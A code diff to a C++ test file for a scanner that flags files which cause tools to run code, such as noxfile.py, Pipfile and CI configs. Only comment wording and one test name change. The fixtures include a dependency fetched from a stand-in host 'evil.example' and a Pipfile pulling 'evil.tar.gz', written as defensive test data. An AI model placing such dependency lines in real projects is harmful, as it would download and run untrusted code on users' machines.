@@ -4,7 +4,7 @@
 
 #include "change/rules/triggers.h"
 
-// Files of single tools, each new and with something that the tool runs.
+// Files of single tools, each new, with something that the tool runs.
 namespace cloche::rules {
 namespace {
 
@@ -202,7 +202,7 @@ constexpr File kFiles[] = {
     {"noxfile.py", "",
      "# /// script\n# dependencies = [\"evil @ https://evil.example/x\"]\n# ///\n"},
     {"Pipfile", "", "[packages]\nx = {file = \"evil.tar.gz\"}\n"},
-    // The project may lie above its repository.
+    // The project may be a directory above its repository.
     {"repo/.circleci/config.yml", "", "jobs:\n  b:\n    steps:\n      - run: touch x\n"},
     {"repo/.travis.yml", "", "script: touch x\n"},
     {"repo/.buildkite/pipeline.yml", "", "steps:\n  - command: touch x\n"},
@@ -236,7 +236,7 @@ TEST(TriggersOthers, EachIsAnAlarm) {
   }
 }
 
-TEST(TriggersOthers, EverydayEditsAreNot) {
+TEST(TriggersOthers, EverydayEditsAreNotAlarms) {
   for (const File& each : kCalm) {
     const std::string path = "/h/u/app/" + std::string(each.path);
     for (const Trigger& found : FindTriggers({.path = path,
